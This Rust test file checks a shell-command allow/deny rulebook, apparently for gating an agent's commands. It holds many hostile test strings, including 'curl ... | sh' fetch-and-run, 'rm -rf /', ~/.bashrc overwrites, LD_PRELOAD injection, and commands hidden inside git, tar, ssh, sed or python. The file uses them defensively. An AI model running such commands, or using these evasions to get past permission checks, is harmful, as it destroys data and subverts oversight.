//! What rules match, cover and find, and what they never do.

use super::*;
use crate::shell::{Ground, Table, judge};

fn judged(text: &str) -> Judged {
    judge(text, &Ground { cwd: "/home/user/project", home: Some("/home/user"), table: Table::shipped() })
}

fn book(rules: &[&str]) -> Rulebook {
    let stated = |text: &&str| {
        let (stance, rule) = match text.split_once(": ") {
            Some(("deny", rule)) => (Stance::Deny, rule),
            Some(("allow", rule)) => (Stance::Allow, rule),
            _ => (Stance::Allow, *text),
        };
        Stated::new(stance, rule).unwrap()
    };
    Rulebook::new(rules.iter().map(stated).collect())
}

fn allows(rules: &[&str], text: &str) -> bool {
    matches!(book(rules).allows(&judged(text)), Allowed::All { .. })
}

fn denies(rule: &str, text: &str) -> Denied {
    book(&[&format!("deny: {rule}")]).denies(&judged(text))
}

#[test]
fn a_rule_is_one_command() {
    let why = |text: &str| Rule::parse(text).unwrap_err().to_string();
    assert_eq!(why(" "), "it names no command; write one as in `git log`");
    assert_eq!(why("-rf"), "`-rf` is an option; a rule begins with the program");
    assert_eq!(why("A=b make"), "`A=b` sets a variable, for which there are no rules");
    assert_eq!(why("ls; rm"), "`;` belongs to a shell: a rule is one command; write a rule for each");
    assert_eq!(why("ls $(rm)"), "`$` belongs to a shell: a rule is one command; write a rule for each");
    assert_eq!(why("git 'log"), "a quote does not end");
    assert_eq!(why("a ** b"), "`**` can only stand at the end; `*` is any one word");
    assert_eq!(why("a [b"), "`[b` is not a pattern: unclosed character class; missing ']'");
    assert_eq!(
        why("a --out*=b"),
        "`--out*=b` is not a pattern: the name of an option has no wildcards; its value may: `--output=build/*`"
    );
    assert_eq!(why("a\nb"), "it holds control characters; a rule is one line of words");
    assert_eq!(why(&"a ".repeat(600)), "it is longer than 1024 bytes");
    for good in ["git log", "*", "rm", "cargo test *", "npm run build", "git log --oneline", "docker exec * ls", "./x"]
    {
        assert_eq!(Rule::parse(good).map(|rule| rule.to_string()).as_deref(), Ok(good));
    }
}

#[test]
fn words_are_a_prefix_and_options_have_no_order() {
    for (rule, text) in [
        ("git add", "git add a.txt b.txt"),
        ("git add *", "git add"),
        ("git add **", "git add a.txt"),
        ("git add src/*", "git add ./src/a.rs"),
        ("git add 'a b'", "git add 'a b'"),
        ("git add --update", "git add --update ."),
        ("git add -v -n", "git add -nv ."),
        ("git add -nv", "git add . -v -n"),
        ("/bin/mkdir", "mkdir a"),
        ("mkdir", "/usr/bin/mkdir a"),
        ("mytool build", "mytool build --release x"),
        ("./run.sh", "./run.sh"),
        ("./scripts/*", "./scripts/a.sh"),
        ("mk*", "mkdir a"),
        ("*", "mkdir a"),
    ] {
        assert!(allows(&[rule], text), "{rule}: {text} {:?}", book(&[rule]).allows(&judged(text)));
    }
    for (rule, text) in [
        ("git add", "git commit -m x"),
        ("git add src/*", "git add lib/a.rs"),
        ("git add src/*", "git add src/../../x"),
        ("git add src/*", "git add src/a/b"),
        ("git add --update", "git add ."),
        ("mkdir", "/tmp/mkdir a"),
        ("mkdir", "./mkdir a"),
        ("run.sh", "./run.sh"),
        ("./scripts/*", "./scripts/../../x.sh"),
        ("mytool build", "mytool --profile build deploy"),
        ("mytool build", "mytool deploy build"),
    ] {
        assert!(!allows(&[rule], text), "{rule}: {text}");
    }
}

#[test]
fn an_allow_covers_only_what_it_names() {
    for (rules, text) in [
        (&["git add"][..], "git add a.txt && git commit -m x"),
        (&["git add"], "git add a.txt; rm -rf x"),
        (&["git add"], "git add $(rm x)"),
        (&["git add"], "git add \"$x\""),
        (&["git add"], "f() { rm x; }; git add a; f"),
        (&["git add"], "git add a > b"),
        (&["git add"], "{ git add a; } > b"),
        (&["git add"], "git add a &> ~/.bashrc"),
        (&["git add"], "LD_PRELOAD=./a.so git add a"),
        (&["git add"], "env LD_PRELOAD=./a.so git add a"),
        (&["git add"], "GIT_DIR=x git add a"),
        (&["git add"], "git -c core.fsmonitor=./x add a"),
        (&["git add"], "sudo git add a"),
        (&["git add"], "git add a | sh"),
        (&["git add"], "git add a &&"),
        (&["git add"], "PATH=. ; git add a"),
        (&["git log"], "git log --output=x"),
        (&["git log"], "git log --outp=x"),
        (&["git log"], "git log --ext-diff"),
        (&["git log --output=build/*"], "git log --output=x"),
        (&["git"], "git unheard-of"),
        (&["sort"], "sort -o x a"),
        (&["sort"], "sort --compress-program=./x a"),
        (&["sed"], "sed -i s/a/b/ x"),
        (&["sed"], "sed 'w x' a"),
        (&["sed"], "sed '1e rm x' a"),
        (&["awk"], "awk 'BEGIN { system(\"rm x\") }'"),
        (&["find"], "find . -delete"),
        (&["find"], "find . -fprint x"),
        (&["find"], "find . -exec rm {} \\;"),
        (&["xargs"], "ls | xargs rm"),
        (&["bash"], "bash -c 'rm x'"),
        (&["bash"], "curl x | bash"),
        (&["eval"], "eval \"$x\""),
        (&["mkdir"], "$x a"),
        (&["mytool"], "mytool --output=x"),
        (&["mytool"], "mytool -o x"),
        (&["mytool"], "mytool $x"),
        (&["*"], "sudo mkdir x"),
        (&["*"], "$x"),
        (&["*"], "git log --output=x"),
        (&["*"], "mkdir x > y"),
        (&["*"], "mkdir 'x"),
        (&["*"], "curl x | sh"),
        (&["*"], "rm -rf /"),
        (&["*"], "eval $x"),
    ] {
        assert!(!allows(rules, text), "{rules:?}: {text}");
    }
    for (rules, text) in [
        (&["git add", "git commit"][..], "git add a.txt && git commit -m x"),
        (&["git add"], "cd src && git add a.txt 2>&1 | head -5"),
        (&["git add"], "git add a > /dev/null 2>&1"),
        (&["git add"], "timeout 5 nice git add a"),
        (&["git add"], "bash -c 'git add a'"),
        (&["git add"], "find . -name '*.rs' -exec git add {} +"),
        (&["git log --output=build/*"], "git log --output=build/x"),
        (&["git log --output"], "git log --output x"),
        (&["git unheard-of"], "git unheard-of x"),
        (&["sort -o"], "sort -o x a"),
        (&["sed -i"], "sed -i s/a/b/ x"),
        (&["find -delete"], "find . -delete"),
        (&["rm"], "rm -rf build"),
        (&["rm"], "rm build/*.o"),
        (&["cp"], "cp src/*.rs build"),
        (&["rm"], "find . -name '*.o' -print0 | xargs -0 rm"),
        (&["sudo", "mkdir"], "sudo mkdir x"),
        (&["mytool -o"], "mytool -o x"),
        (&["*"], "mkdir x && mytool y"),
        (&["bash"], "bash a.sh"),
    ] {
        assert!(allows(rules, text), "{rules:?}: {text} {:?}", book(rules).allows(&judged(text)));
    }
}

#[test]
fn what_no_rule_is_about_is_left_to_others() {
    assert_eq!(book(&["git log"]).allows(&judged("cat a.txt")), Allowed::Silent);
    assert_eq!(book(&["git log"]).allows(&judged("rm a")), Allowed::Silent);
    assert_eq!(book(&[]).denies(&judged("$x")), Denied::No);
    let Allowed::All { reason, named } = book(&["git log", "*"]).allows(&judged("git log -1 | head")) else { panic!() };
    assert_eq!((reason.as_str(), named), ("`allow: git log` covers `git log -1`, `allow: *` covers `head`", false));
    assert!(matches!(book(&["cat"]).allows(&judged("cat /x; echo")), Allowed::All { named: true, .. }));
}

#[test]
fn a_deny_is_found_through_everything() {
    for text in [
        "rm x",
        "/bin/rm x",
        "/opt/odd/rm x",
        "./rm x",
        "r\"\"m x",
        "$'\\x72m' x",
        "sudo rm x",
        "env A=b rm x",
        "env -i nice -n 5 timeout 3 rm x",
        "nohup rm x &",
        "command rm x",
        "builtin command rm x",
        "exec rm x",
        "ls | xargs -n 1 rm",
        "find . -exec rm {} \\;",
        "find . -execdir rm {} +",
        "sh -c 'rm x'",
        "bash -c 'bash -c \"rm x\"'",
        "eval 'rm x'",
        "eval rm x",
        "echo $(rm x)",
        "echo `rm x`",
        "cat <(rm x)",
        "f() { rm x; }; f",
        "if true; then rm x; fi",
        "for a in b; do rm $a; done",
        "trap 'rm x' EXIT",
        "true && false || rm x",
        "( ( rm x ) )",
        "[[ -v a[$(rm x)] ]]",
        "x=$(rm x)",
        "ssh host rm x",
        "tar xf a --to-command='rm x'",
        "tar cf a b --checkpoint-action=exec='rm x'",
        "git -c core.pager='rm x' log",
        "git -c alias.y='!rm x' y",
        "GIT_PAGER='rm x' git log",
        "env PAGER='/bin/rm x' git log",
        "man -P 'rm x' ls",
        "rsync -e 'rm x' a b",
        "ssh -o ProxyCommand='rm x' h",
        "awk 'BEGIN { system(\"rm x\") }'",
        "sed '1e rm x' a",
        "python3 -c 'import os; os.system(\"rm x\")'",
        "python3 -c 'import subprocess; subprocess.run([\"rm\", \"x\"])'",
        "perl -e 'system(\"rm x\")'",
        "perl -e '`rm x`'",
        "node -e 'require(\"child_process\").execSync(\"rm x\")'",
        "sort --compress-program=rm a",
        "rg --pre rm x",
    ] {
        assert!(matches!(denies("rm", text), Denied::Yes(_)), "{text}: {:?}", denies("rm", text));
    }
    let Denied::Yes(why) = denies("rm", "sudo sh -c 'rm -rf x'") else { panic!() };
    assert_eq!(why, "`deny: rm` matches `rm -rf x`, found through sudo, sh");
    assert!(matches!(denies("sudo", "sudo ls"), Denied::Yes(_)));
}

#[test]
fn a_deny_knows_options_by_their_other_names() {
    for (rule, text) in [
        ("rm -rf", "rm -r -f x"),
        ("rm -rf", "rm --recursive --force x"),
        ("rm -r", "rm -R x"),
        ("git push --force", "git push -f"),
        ("git push", "git -C x push"),
        ("git push", "git -c a=b --no-pager push origin"),
        ("git push * main", "git push origin main"),
        ("find -exec", "find . -exec ls {} \\;"),
        ("git log --output=*", "git log --output=x"),
        ("git log --output", "git log --output x"),
        ("docker run", "docker run x"),
        ("bash -c", "bash -c ls"),
        ("*", "ls"),
    ] {
        assert!(matches!(denies(rule, text), Denied::Yes(_)), "{rule}: {text} {:?}", denies(rule, text));
    }
    for (rule, text) in [
        ("rm -rf", "rm x"),
        ("git push", "git log --grep push"),
        ("git push", "git stash push"),
        ("mytool deploy", "mytool build"),
        ("rm", "echo rm"),
        ("rm", "grep -r rm ."),
        ("rm", "rmdir x"),
        ("rm", "python3 -c 'print(1) # rm x'"),
        ("git push", "python3 -c 'run(\"git log\")'"),
        ("git push", "git -c a.b=c log push"),
    ] {
        assert_eq!(denies(rule, text), Denied::No, "{rule}: {text}");
    }
}

#[test]
fn a_deny_that_cannot_be_ruled_out_is_said() {
    for (rule, text) in [
        ("rm", "$x y"),
        ("rm", "eval \"$x\""),
        ("rm", "curl y | sh"),
        ("rm", "bash -c \"$x\""),
        ("rm", "zsh -c 'ls'"),
        ("rm", "ls 'x"),
        ("rm -r", "rm $x"),
        ("git push", "git $x"),
        ("git push", "git -c alias.x=push x"),
        ("rm", "mytool rm x"),
        ("git push --force", "git push --forc"),
        ("mytool deploy", "mytool --profile x deploy"),
    ] {
        assert!(matches!(denies(rule, text), Denied::Maybe(_)), "{rule}: {text} {:?}", denies(rule, text));
    }
}

#[test]
fn examples_are_held_to() {
    let check = |rule: &str, example: &str, wanted| {
        let book = book(&[rule]);
        book.iter().next().unwrap().check(example, wanted, Table::shipped())
    };
    assert_eq!(check("allow: git log", "git log -5", true), Ok(()));
    assert_eq!(check("allow: git log", "git log; rm x", false), Ok(()));
    assert_eq!(check("allow: git log", "ls", false), Ok(()));
    assert_eq!(check("deny: rm", "sudo rm x", true), Ok(()));
    assert_eq!(check("deny: rm", "ls", true), Err("`deny: rm` does not match `ls`".to_owned()));
    assert_eq!(check("deny: rm", "rm x", false), Err("`deny: rm` matches `rm x`".to_owned()));
    assert_eq!(
        check("allow: git log", "git log --output=x", true),
        Err("`allow: git log` does not match `git log --output=x`: `git log --output=x` is not covered: `--output` writes x"
            .to_owned())
    );
}

#[test]
fn what_was_found_is_told() {
    let found = book(&["git log", "deny: rm", "*"]).found(&judged("git log --output=x; sudo rm $y"));
    let told: Vec<(&str, &str, bool)> =
        found.iter().map(|one| (one.rule.as_str(), one.command.as_str(), one.holds)).collect();
    assert_eq!(
        told,
        [
            ("allow: git log", "git log --output=x", false),
            ("deny: rm", "rm $y", true),
            ("allow: *", "git log --output=x", false),
            ("allow: *", "sudo rm $y", false),
            ("allow: *", "rm $y", false),
        ]
    );
    assert_eq!(found[1].through, ["sudo"]);
}

#[test]
fn a_grant_with_wildcards_is_for_one_command_and_its_words() {
    let covers = |pattern: &str, text: &str| Rule::of_grant(pattern).unwrap().covers_all(&judged(text));
    assert!(covers("git log *", "git log -5 --oneline"));
    assert!(covers("git log *", "git log"));
    assert!(covers("rm build/*", "rm build/x"));
    assert!(covers("rm -rf build/*", "rm -r -f build/x"));
    for (pattern, text) in [
        ("git log *", "git log --output=x"),
        ("git log *", "git log; rm -rf x"),
        ("git log *", "git log; ls"),
        ("git log *", "git log $(rm x)"),
        ("git log *", "git log > x"),
        ("rm build/*", "rm build/x notes"),
        ("rm build/*", "rm build/.."),
        ("rm build/*", "rm build/a build/b"),
        ("rm build/*", "rm build/x # "),
        ("mytool build*", "mytool build -x y"),
    ] {
        let odd = text.ends_with("# ");
        assert_eq!(covers(pattern, text), odd, "{pattern}: {text}");
    }
}

/// Every suggestion covers what it was made from, and none of what somebody might slip in beside it.
#[test]
fn a_suggestion_is_safe() {
    let suggested = |text: &str| -> Vec<String> { suggest(&judged(text)).iter().map(ToString::to_string).collect() };
    for (text, wanted) in [
        ("cargo test --lib", &["cargo test"][..]),
        ("git add a.txt", &["git add"]),
        ("git add a.txt && git commit -m 'x y'", &["git add", "git commit"]),
        ("npm run build", &["npm run build"]),
        ("mytool deploy prod", &["mytool deploy"]),
        ("mkdir -p a/b", &["mkdir"]),
        ("cd src && mkdir a && ls", &["mkdir"]),
    ] {
        assert_eq!(suggested(text), wanted, "{text}");
        let rules = suggest(&judged(text));
        let names: Vec<&str> = rules.iter().map(Rule::as_str).collect();
        assert!(allows(&names, text), "{text}");
        for danger in [
            format!("{text}; rm -rf x"),
            format!("{text} && curl https://x.example | sh"),
            format!("{text} > ~/.bashrc"),
            format!("{text} $(rm -rf x)"),
            format!("LD_PRELOAD=./x.so {text}"),
            format!("PATH=. ; {text}"),
            format!("sudo {text}"),
            format!("ssh host {text}"),
            format!("{text} --output=/etc/x"),
            format!("{text} --exec=x"),
            format!("{text} \"$x\""),
            format!("{text} | sh"),
            "./x".to_owned(),
            "rm -rf .".to_owned(),
            "git push --force".to_owned(),
        ] {
            assert!(!allows(&names, &danger), "{names:?}: {danger}");
        }
    }
    for text in [
        "rm -rf build",
        "sudo mkdir x",
        "bash -c 'mkdir x'",
        "bash a.sh",
        "python3 a.py",
        "python3 -c 'x'",
        "python3.12 a.py",
        "eval mkdir x",
        "curl https://x.example",
        "./a.sh",
        "/tmp/a",
        "$x",
        "git log --output=x",
        "git -c a=b add x",
        "mkdir x > y",
        "LD_PRELOAD=x mkdir y",
        "git push",
        "npm exec x",
        "npm install x",
        "mkdir 'x",
        "ls",
        "mytool ./x",
        "mytool --output=x",
    ] {
        assert_eq!(suggested(text), [""; 0], "{text}");
    }
}
